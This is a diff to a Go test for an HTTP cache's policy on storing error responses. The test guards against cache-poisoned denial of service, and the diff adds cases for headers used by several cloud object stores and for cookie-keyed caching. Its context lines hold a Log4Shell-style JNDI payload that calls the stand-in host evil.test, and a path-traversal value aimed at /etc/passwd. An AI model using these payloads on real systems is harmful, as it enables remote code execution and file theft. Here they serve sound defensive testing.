@@ -28,6 +28,10 @@ func TestErrorsOfOddRequests(t *testing.T) {
 		{"CPDoS a look-up", "X-Api-Version: ${jndi:ldap://evil.test/a}", 500, StatusNotCacheable},
 		{"CPDoS a way up", "X: ../../etc/passwd", 404, StatusNotCacheable},
 		{"CPDoS an object store's parameter", "X-Amz-Server-Side-Encryption: x", 400, StatusNotCacheable},
+		{"CPDoS another store's parameter", "X-Goog-Meta-A: x", 400, StatusNotCacheable},
+		{"CPDoS a third store's parameter", "X-Ms-Blob-Type: x", 400, StatusNotCacheable},
+		{"CPDoS a fourth store's parameter", "X-Oss-Meta-A: x", 400, StatusNotCacheable},
+		{"CPDoS a fifth store's parameter", "X-Cos-Meta-A: x", 400, StatusNotCacheable},
 		{"what browsers send", "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0)\n" +
 			"Sec-Ch-Ua: \"Not/A)Brand\";v=\"99\", \"A (B) C=D?\";v=\"1\"\nReferer: https://a.test/b?c=d&e=%27#f\n" +
 			"If-None-Match: W/\"x\"\nSec-Fetch-Mode: navigate\nPriority: u=0, i\nAccept: text/html,*/*;q=0.8", 400, Storable},
@@ -46,6 +50,9 @@ func TestErrorsOfOddRequests(t *testing.T) {
 		if _, got := Store(x, &Policy{}); got != Storable {
 			t.Errorf("%d that is public: %v", status, got)
 		}
+	}
+	if _, got := Store(getWith("Cookie: a=b", 500, fresh), &Policy{CookieInKey: true}); got != Storable {
+		t.Errorf("500 to a cookie that the key has: %v", got)
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
